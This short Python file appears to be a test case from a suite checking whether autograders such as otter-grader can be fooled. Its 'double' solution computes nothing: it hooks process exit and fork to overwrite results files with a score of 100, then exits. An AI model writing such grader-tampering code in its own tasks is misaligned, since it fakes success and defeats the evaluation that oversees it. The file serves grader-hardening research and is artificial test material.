"""Registers functions that rewrite results when the process ends, then ends it."""
# falls: otter-grader 7.0.0
# expect: double=0

# %% double-solution
import atexit
import glob
import os
import sys


def _rewrite():
    for path in glob.glob("/**/results*", recursive=False) + ["/tmp/tensorgrade-attack-results.json"]:
        try:
            with open(path, "w") as file:
                file.write('{"score": 100}')
        except OSError:
            pass


atexit.register(_rewrite)
os.register_at_fork(after_in_child=_rewrite)


def double(x):
    _rewrite()
    sys.exit(0)
